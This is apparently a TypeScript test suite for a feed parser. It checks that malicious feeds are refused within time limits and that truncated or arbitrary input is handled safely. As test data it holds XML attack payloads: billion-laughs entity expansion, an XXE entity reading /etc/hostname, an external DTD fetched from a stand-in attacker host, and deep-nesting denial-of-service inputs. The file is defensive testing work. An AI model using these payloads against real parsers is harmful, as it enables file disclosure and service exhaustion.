import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { decodeFeed } from '../../../server/src/listen/collect/connectors/rss/decode-feed.js';
import { toFeedLines } from '../../../server/src/listen/collect/connectors/rss/feed-lines.js';
import { FeedRefusal } from '../../../server/src/listen/collect/connectors/rss/feed-refusal.js';
import { parseFeed } from '../../../server/src/listen/collect/connectors/rss/parse-feed.js';
import { japaneseTexts } from './japanese-texts.js';

const inRss = (items: string, docType = ''): string => `<?xml version="1.0"?>${docType}<rss version="2.0"><channel><title>題</title>${items}</channel></rss>`;
const laughs = Array.from({ length: 9 }, (_unused, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join('');

const readOrRefuse = (text: string): { code: string; ms: number } => {
  const startedAt = performance.now();
  let code = 'read';
  try {
    toFeedLines(parseFeed(text), { feedUrl: null, channel: 'rss' });
  } catch (error) {
    if (!(error instanceof FeedRefusal)) throw error;
    code = error.code;
  }
  return { code, ms: performance.now() - startedAt };
};

describe('a feed made to do harm is refused within a second', () => {
  it.each([
    ['entities that multiply', inRss('<item><title>&l9;</title></item>', `<!DOCTYPE rss [<!ENTITY l0 "ha">${laughs}]>`)],
    ['one long entity used often', inRss(`<item><title>${'&a;'.repeat(50_000)}</title></item>`, `<!DOCTYPE rss [<!ENTITY a "${'a'.repeat(50_000)}">]>`)],
    ['an entity that names a file', inRss('<item><title>&x;</title></item>', '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/hostname">]>')],
    ['a parameter entity from outside', inRss('<item><title>x</title></item>', '<!DOCTYPE rss [<!ENTITY % p SYSTEM "https://evil.mihon.example/x.dtd"> %p;]>')],
    ['200,000 levels', inRss(`<item>${'<a>'.repeat(200_000)}x${'</a>'.repeat(200_000)}</item>`)],
    ['200,000 levels before any item', `${'<rss>'.repeat(200_000)}`],
    ['300,000 attributes', inRss(`<item ${Array.from({ length: 300_000 }, (_unused, at) => `a${at}="1"`).join(' ')}><title>x</title></item>`)],
  ])('%s', (_what, text) => {
    const { code, ms } = readOrRefuse(text);
    expect(code).toBe('broken_feed');
    expect(ms).toBeLessThan(1_000);
  });

  it.each([
    ['an HTML page', '<!DOCTYPE html><html><head><title>お知らせ</title></head><body>みほん</body></html>'],
    ['an HTML page without a document type', '<html><body>みほん</body></html>'],
    ['a site map', '<?xml version="1.0"?><urlset><url/></urlset>'],
    ['plain text', 'サーバーが混み合っています'],
    ['nothing', ''],
    ['white space', ' \n\t'],
    ['JSON of another kind', '{"items":[1,2],"error":"no"}'],
    ['a JSON list', '[{"id":"1"}]'],
    ['an XML declaration only', '<?xml version="1.0"?>'],
  ])('%s is no feed', (_what, text) => {
    expect(readOrRefuse(text).code).toBe('not_a_feed');
  });

  it.each([
    ['open tags', inRss('<item><title>'.repeat(400))],
    ['open comments', `<rss><channel>${'<!--'.repeat(250_000)}`],
    ['open character data', `<rss><channel><item>${'<![CDATA['.repeat(110_000)}`],
    ['ampersands', inRss(`<item><title>${'&'.repeat(500_000)}</title></item>`)],
    ['smaller-than signs', inRss(`<item><title>${'<'.repeat(500_000)}</title></item>`)],
    ['declarations', `<rss><channel>${'<!a>'.repeat(250_000)}`],
    ['open declarations', `<rss><channel>${'<!a ['.repeat(200_000)}`],
    ['open quotes', `<rss><channel>${`<item a="`.repeat(100_000)}`],
    ['open braces', `{"version":"https://jsonfeed.org/version/1","items":[${'{"a":['.repeat(150_000)}`],
  ])('one megabyte of %s ends soon', (_what, text) => {
    expect(readOrRefuse(text).ms).toBeLessThan(5_000);
  });

  it('a feed of 5,000 posts is read in a few seconds', () => {
    const items = Array.from({ length: 5_000 }, (_unused, at) => `<item><title>題${at}</title><guid>g${at}</guid><description><![CDATA[<p>${japaneseTexts[at % 60]}</p>]]></description></item>`).join('');
    const startedAt = performance.now();
    expect(parseFeed(inRss(items)).items).toHaveLength(5_000);
    expect(performance.now() - startedAt).toBeLessThan(15_000);
  });
});

describe('a feed that breaks off', () => {
  const count = 40;
  const idsOf = (bytes: Uint8Array) => {
    const feed = parseFeed(decodeFeed(bytes).text);
    return { ids: toFeedLines(feed, { feedUrl: null, channel: 'rss' }).lines.map((line) => line.external_id), feed };
  };
  const readCut = (bytes: Uint8Array): ReturnType<typeof idsOf> | null => {
    try {
      return idsOf(bytes);
    } catch (error) {
      if (error instanceof FeedRefusal) return null;
      throw error;
    }
  };
  const texts = japaneseTexts.slice(0, count);
  const feeds: Record<string, string> = {
    RSS: inRss(texts.map((text, at) => `<item><guid>g${at}</guid><title>${text}</title><description><![CDATA[<p>${text}</item></p>]]></description></item>`).join('\n')),
    RDF: `<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"><channel><title>題</title><items><rdf:Seq/></items></channel>${texts.map((text, at) => `<item rdf:about="g${at}"><title>${text}</title></item>`).join('')}</rdf:RDF>`,
    Atom: `<feed xmlns="http://www.w3.org/2005/Atom"><title>題</title>${texts.map((text, at) => `<entry><id>g${at}</id><title>${text}</title></entry>`).join('')}</feed>`,
    JSON: JSON.stringify({ version: 'https://jsonfeed.org/version/1.1', title: '題 "items":[', items: texts.map((text, at) => ({ id: `g${at}`, content_text: `${text} }] \\"`, tags: ['a', 'b'] })) }),
  };

  it.each(Object.keys(feeds))('at any of 500 bytes of %s gives exactly its whole posts and says so', (name) => {
    const bytes = Buffer.from(feeds[name] ?? '');
    const whole = idsOf(bytes);
    expect(whole.feed.isTruncated).toBe(false);
    expect(whole.ids).toHaveLength(count);
    fc.assert(fc.property(fc.integer({ min: 1, max: bytes.length - 1 }), (cut) => {
      const part = readCut(bytes.subarray(0, cut));
      // Before the root element or the list of posts there is nothing to read yet.
      if (part === null) return cut < 160;
      expect(part.feed.isTruncated).toBe(true);
      expect(part.ids).toEqual(whole.ids.slice(0, part.ids.length));
      // Not one post fewer than the bytes hold: the next one's end has not come.
      expect(part.ids.length).toBeGreaterThanOrEqual(Math.floor((cut / bytes.length) * count) - 3);
      return true;
    }), { numRuns: 500, seed: 7 });
  });

  it('behind its last post is cut off all the same', () => {
    const { ids, feed } = idsOf(Buffer.from((feeds['RDF'] ?? '').slice(0, -4)));
    expect(ids).toHaveLength(count);
    expect(feed.isTruncated).toBe(true);
  });
});

describe('any text at all', () => {
  const piece = fc.constantFrom('<rss>', '<channel>', '<item>', '</item>', '<title>', '</title>', '<![CDATA[', ']]>', '<!--', '-->', '&', '&#x3072;', '"', "'", '<', '>', '<!DOCTYPE', '[', '{', '"items":[', '}', 'ミナモ', '<feed xmlns="http://www.w3.org/2005/Atom">', '<entry>', '</entry>', '\u0000', '\ud800');
  it('is read or refused, never an unexpected error', () => {
    fc.assert(fc.property(fc.constantFrom('<rss version="2.0"><channel>', '<feed>', '{"version":"https://jsonfeed.org/version/1",', ''), fc.array(piece, { maxLength: 40 }), (start, parts) => {
      expect(readOrRefuse(start + parts.join('')).ms).toBeLessThan(1_000);
    }), { numRuns: 2_500, seed: 11 });
  });

  it('of any bytes is decoded without an error', () => {
    fc.assert(fc.property(fc.uint8Array({ maxLength: 200 }), fc.option(fc.constantFrom('utf-8', 'shift_jis', 'euc-jp', 'iso-2022-jp', 'x', ''), { nil: null }), (bytes, charset) => {
      expect(typeof decodeFeed(bytes, charset).text).toBe('string');
    }), { numRuns: 5_000, seed: 13 });
  });
});
